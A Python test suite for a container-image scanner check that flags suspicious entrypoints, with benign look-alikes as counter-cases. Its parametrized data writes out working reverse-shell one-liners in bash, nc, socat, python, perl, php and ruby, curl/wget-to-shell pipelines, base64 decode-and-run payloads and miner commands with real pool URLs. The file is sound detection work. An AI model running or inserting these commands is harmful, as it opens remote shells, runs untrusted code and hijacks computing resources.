"""`suspicious-entrypoint`: download-and-run, decoded payloads, reverse shells and miners.

Addresses are from the documentation ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24).
"""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.checks.base import HygienePolicy
from bot.checks.entrypoint import (
    CHECK_ID,
    FRAGMENT_LIMIT,
    MINERS,
    fragment,
    suspicious_entrypoint,
)
from bot.images.facts import ImageFacts, PlatformConfig
from bot.model.findings import Finding, Severity

POLICY = HygienePolicy()
INDEX = "sha256:" + "2" * 64


def platform(name: str = "linux/amd64", **config: Any) -> PlatformConfig:
    return PlatformConfig(name, "sha256:" + str(len(name) % 10) * 64, **config)


def image(*platforms: PlatformConfig) -> ImageFacts:
    return ImageFacts(
        registry="dockerhub",
        repository="acme/worker",
        digest=INDEX,
        tag="1.8.0",
        media_type="application/vnd.oci.image.index.v1+json",
        platforms=platforms or (platform(),),
    )


def check(**config: Any) -> list[Finding]:
    return list(suspicious_entrypoint(image(platform(**config)), POLICY))


def sh_c(script: str) -> list[Finding]:
    return check(entrypoint=("/bin/sh", "-c"), cmd=(script,))


def kinds(findings: list[Finding]) -> set[str]:
    return {(f.package or "").rsplit(" (", 1)[-1].rstrip(")") for f in findings}


def only(findings: list[Finding]) -> Finding:
    assert len(findings) == 1, findings
    return findings[0]


# --- download and execute ----------------------------------------------------------------------


def test_curl_piped_to_shell_in_sh_c_is_suspicious() -> None:
    f = only(sh_c("apk add --no-cache curl && curl -fsSL https://get.example.dev/setup | sh"))

    assert f.check_id == CHECK_ID == "suspicious-entrypoint"
    assert f.severity is Severity.HIGH
    assert f.package == "command (download-and-execute)"
    assert "`curl -fsSL https://get.example.dev/setup | sh`" in f.detail
    assert "checksum" in f.remediation


@pytest.mark.parametrize(
    "script",
    [
        "curl -fsSL https://get.example.dev/install.sh | sudo bash",
        "curl -fsSL https://get.example.dev/install.sh | sudo -E bash -s -- --yes",
        "wget -qO- http://198.51.100.7/x.sh | sh",
        "wget -O - https://get.example.dev/i | tee /tmp/install.log | bash",
        "curl -s https://get.example.dev/i |& /bin/bash",
        "bash <(curl -s https://get.example.dev/i.sh)",
        ". <(curl -s https://get.example.dev/env.sh)",
        'sh -c "$(curl -fsSL https://raw.githubusercontent.com/acme/tools/main/install.sh)"',
        'eval "$(wget -qO- https://get.example.dev/env)"',
        "curl -sSL https://get.example.dev/bootstrap.py | python3 -",
    ],
)
def test_download_and_execute_variants_are_suspicious(script: str) -> None:
    assert kinds(sh_c(script)) == {"download-and-execute"}


@pytest.mark.parametrize(
    "script",
    [
        "curl -o /tmp/app.tgz https://releases.example.dev/app-1.2.tgz",
        "curl -fsSL https://releases.example.dev/app.tgz | tar xz -C /opt && exec /opt/app",
        "curl -fsS http://localhost:8080/healthz || sh /usr/local/bin/recover.sh",
        "curl -s https://api.example.dev/config.json | python -m json.tool > /etc/app.json",
        "curl -s https://releases.example.dev/SHA256SUMS | sha256sum -c -",
        "wget -q https://releases.example.dev/app.sh -O /opt/app.sh; exec /opt/app/run",
    ],
)
def test_downloads_not_piped_into_a_shell_are_not_suspicious(script: str) -> None:
    assert sh_c(script) == []


def test_download_and_execute_in_an_env_value_is_reported_there() -> None:
    f = only(check(env=("POST_START=curl -s http://203.0.113.5/p | bash",)))

    assert f.package == "env POST_START (download-and-execute)"
    assert "env var `POST_START`" in f.detail


# --- decode and execute --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "script",
    [
        "echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUvcCB8IHNo | base64 --decode | bash",
        "echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUvcCB8IHNo | base64 -d | sh",
        "base64 -d /opt/payload.b64 | sh",
        'printf %s "$PAYLOAD" | base64 -di | sudo bash',
        'eval "$(echo ZWNobyBoaQ== | base64 -d)"',
        'sh -c "$(printf %s "$P" | base64 --decode)"',
        "python3 -c \"exec(__import__('base64').b64decode('cHJpbnQoMSk='))\"",
    ],
)
def test_base64_decoded_and_run_is_suspicious(script: str) -> None:
    assert "decode-and-execute" in kinds(sh_c(script))


def test_echo_base64_decode_bash_quotes_the_whole_pipeline() -> None:
    f = only(sh_c("echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUvcCB8IHNo | base64 --decode | bash"))
    assert "`echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUvcCB8IHNo | base64 --decode | bash`" in f.detail


@pytest.mark.parametrize(
    "script",
    [
        'echo "$CONFIG" | base64 -d > /etc/app/config.yaml && exec app',
        "cat /etc/ssl/cert.pem | base64 -w0",
    ],
)
def test_base64_that_is_not_run_is_not_suspicious(script: str) -> None:
    assert sh_c(script) == []


# --- reverse shells -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "argv",
    [
        ("/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        ("/bin/sh", "-c", "sh -i 5<> /dev/tcp/203.0.113.9/4242 0<&5 1>&5 2>&5"),
        ("/bin/bash", "-c", "0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196"),
        (
            "/bin/bash",
            "-c",
            "exec 5<>/dev/tcp/203.0.113.9/4444;cat <&5 | while read line; do $line 2>&5 >&5; done",
        ),
        ("nc", "-e", "/bin/sh", "203.0.113.9", "4444"),
        ("/bin/sh", "-c", "ncat 203.0.113.9 4444 -e /bin/bash"),
        ("/bin/sh", "-c", "nc -lvnp 4444 -e /bin/sh"),
        ("/bin/sh", "-c", "ncat --sh-exec 'bash -i' 203.0.113.9 4444"),
        ("socat", "tcp-connect:203.0.113.9:4444", "EXEC:/bin/sh,pty,stderr,setsid,sigint,sane"),
        (
            "/bin/sh",
            "-c",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
        ),
        ("/bin/sh", "-c", "telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445"),
        (
            "python3",
            "-c",
            "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.9',4444));"
            "[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn('/bin/sh')",
        ),
        (
            "perl",
            "-e",
            'use Socket;$i="203.0.113.9";$p=4444;'
            'socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
            'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};',
        ),
        ("php", "-r", '$sock=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");'),
        (
            "ruby",
            "-rsocket",
            "-e",
            'f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)',
        ),
    ],
)
def test_reverse_shells_are_suspicious(argv: tuple[str, ...]) -> None:
    f = only(check(entrypoint=argv))
    assert f.package == "command (reverse-shell)"
    assert f.severity is Severity.HIGH
    assert "compromised" in f.remediation


@pytest.mark.parametrize(
    "script",
    [
        "until </dev/tcp/postgres/5432; do sleep 1; done; exec /app/server",
        "timeout 30 bash -c 'until echo > /dev/tcp/redis/6379; do sleep 1; done' && exec worker",
        "while ! nc -z postgres 5432; do sleep 1; done; exec /app/server",
        "exec python -m http.server 8000",
        "exec socat TCP-LISTEN:8080,fork TCP:backend:80",
    ],
)
def test_wait_for_port_probes_and_proxies_are_not_reverse_shells(script: str) -> None:
    assert sh_c(script) == []


# --- miners and pools -----------------------------------------------------------------------------


def test_xmrig_entrypoint_is_critical() -> None:
    findings = check(
        entrypoint=("/opt/xmrig/xmrig",),
        cmd=("-o", "stratum+tcp://pool.supportxmr.com:3333", "-u", "worker1", "--donate-level=1"),
    )

    assert kinds(findings) == {"miner", "mining-pool"}
    assert all(f.severity is Severity.CRITICAL for f in findings)
    miner = next(f for f in findings if f.package == "command (miner)")
    assert "`/opt/xmrig/xmrig`" in miner.detail
    pool = next(f for f in findings if f.package == "command (mining-pool)")
    assert "`stratum+tcp://pool.supportxmr.com:3333`" in pool.detail
    assert "(and" not in pool.detail, "the pool URL and its host name are one match"


@pytest.mark.parametrize("miner", MINERS)
def test_every_known_miner_is_found_as_a_command_or_path(miner: str) -> None:
    assert kinds(check(entrypoint=(f"/usr/local/bin/{miner}",), cmd=("--threads", "4"))) == {
        "miner"
    }
    assert kinds(sh_c(f"cd /tmp && ./{miner} -c config.json &")) == {"miner"}


@pytest.mark.parametrize(
    "argv",
    [
        ("XMRig", "--config=/etc/xmrig.json"),
        ("/tmp/.x/kdevtmpfsi",),
        ("/bin/sh", "-c", "/tmp/kinsing &"),
        ("/opt/cpuminer-opt/cpuminer", "-a", "yespower"),
        ("./xmrig-6.21.0/xmrig",),
    ],
)
def test_miner_variants_are_critical(argv: tuple[str, ...]) -> None:
    f = only(check(entrypoint=argv))
    assert f.severity is Severity.CRITICAL


@pytest.mark.parametrize(
    "argv",
    [
        ("/usr/local/bin/dataminer", "--source", "s3://acme-lake"),
        ("python", "-m", "minerva.server"),
        ("/opt/minerdb/bin/minerdb",),
        ("java", "-jar", "/opt/geominer/geominer.jar"),
        ("/usr/bin/ethminers-exporter",),
        ("/app/mineral-tracker", "--kinsingle"),
    ],
)
def test_miner_as_part_of_a_word_is_not_reported(argv: tuple[str, ...]) -> None:
    assert check(entrypoint=argv) == []


@pytest.mark.parametrize(
    "entry",
    [
        "POOL_URL=stratum+tcp://xmr.pool.example:3333",
        "POOL=stratum+ssl://203.0.113.20:443",
        "UPSTREAM=stratum2+tcp://pool.example:3336",
        "MINING_OPTS=-o gulf.moneroocean.stream:10128 -u worker",
    ],
)
def test_mining_pool_url_in_env_is_critical(entry: str) -> None:
    f = only(check(env=(entry,)))
    assert f.severity is Severity.CRITICAL
    assert f.package == f"env {entry.split('=', 1)[0]} (mining-pool)"


# --- shape of findings ------------------------------------------------------------------------


def test_one_finding_per_kind_and_place_across_platforms() -> None:
    argv = (
        "/bin/sh",
        "-c",
        "curl -s http://203.0.113.5/a | sh; wget -qO- http://203.0.113.5/b | sh",
    )
    facts = image(
        platform("linux/amd64", entrypoint=argv), platform("linux/arm64", entrypoint=argv)
    )

    f = only(list(suspicious_entrypoint(facts, POLICY)))
    assert "(and 1 more)" in f.detail
    assert "(every platform)" in f.detail


def test_only_some_platforms_are_named() -> None:
    facts = image(
        platform("linux/amd64", entrypoint=("/opt/app",)),
        platform("linux/arm64", entrypoint=("/opt/ccminer",)),
    )
    f = only(list(suspicious_entrypoint(facts, POLICY)))
    assert f.detail.endswith("(linux/arm64).")


def test_the_quoted_fragment_is_truncated() -> None:
    url = "https://get.example.dev/" + "a" * 300
    f = only(sh_c(f"curl -fsSL {url} | bash"))

    quoted = f.detail.split("`")[1]
    assert len(quoted) <= FRAGMENT_LIMIT
    assert quoted.startswith("curl -fsSL https://get.example.dev/aaa")
    assert quoted.endswith("…")


@given(st.text(max_size=400))
def test_a_fragment_is_one_line_of_at_most_the_limit(text: str) -> None:
    quoted = fragment(text)
    assert len(quoted) <= FRAGMENT_LIMIT
    assert "\n" not in quoted


def test_credentials_in_the_quoted_fragment_are_masked() -> None:
    token = "ghp" + "_" + "Zx81bQ4TnV0sL3kW9yR2mJ6pH5cD7fA1eG8u"
    f = only(sh_c(f'curl -sH "Authorization: token {token}" https://get.example.dev/i | bash'))

    assert token not in f.detail
    assert "ghp_…(40 chars)" in f.detail


@pytest.mark.parametrize(
    "config",
    [
        {"entrypoint": ("/docker-entrypoint.sh",), "cmd": ("nginx", "-g", "daemon off;")},
        {"entrypoint": ("docker-entrypoint.sh",), "cmd": ("postgres",)},
        {"cmd": ("gunicorn", "--bind", "0.0.0.0:8000", "payments.wsgi:application")},
        {"entrypoint": ("/bin/sh", "-c", "exec java $JAVA_OPTS -jar /app/app.jar")},
        {"entrypoint": ("/tini", "--", "/usr/local/bin/miner-exporter")},
        {"env": ("PATH=/usr/local/bin:/usr/bin:/bin", "LANG=C.UTF-8", "MINERAL_API=http://x")},
    ],
)
def test_ordinary_entrypoints_are_not_suspicious(config: dict[str, Any]) -> None:
    assert check(**config) == []


# --- property: never crash, findings stay well-formed -------------------------------------------

words = st.one_of(
    st.text(max_size=20),
    st.sampled_from(["curl", "|", "sh", "bash", "-c", "base64", "-d", "nc", "-e", "/dev/tcp/"]),
)


@settings(max_examples=300, deadline=None)
@given(
    entrypoint=st.lists(words, max_size=6),
    cmd=st.lists(words, max_size=6),
    env=st.lists(st.tuples(st.text(max_size=15), st.text(max_size=40)).map("=".join), max_size=4),
    miner=st.sampled_from(MINERS),
    at=st.integers(0, 6),
)
def test_random_commands_never_crash_and_a_miner_argument_is_always_found(
    entrypoint: list[str], cmd: list[str], env: list[str], miner: str, at: int
) -> None:
    findings = check(entrypoint=tuple(entrypoint), cmd=tuple(cmd), env=tuple(env))
    for f in findings:
        assert f.check_id == CHECK_ID
        assert len(f.detail) < 400, "names cut to 100, fragments to 120"
        assert len(f.package or "") <= 255

    entrypoint.insert(min(at, len(entrypoint)), f"/usr/bin/{miner}")
    with_miner = check(entrypoint=tuple(entrypoint), cmd=tuple(cmd), env=tuple(env))
    assert "miner" in kinds(with_miner)


@given(
    token=st.text(
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789", min_size=36, max_size=36
    ),
    pad=st.integers(0, 200),
)
def test_no_part_of_a_token_is_quoted_however_the_fragment_is_cut(token: str, pad: int) -> None:
    token = "ghp" + "_" + token
    script = f"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 {'x' * pad} {token}"
    for f in check(entrypoint=("/bin/bash", "-c", script)):
        assert token[4:14] not in f.detail
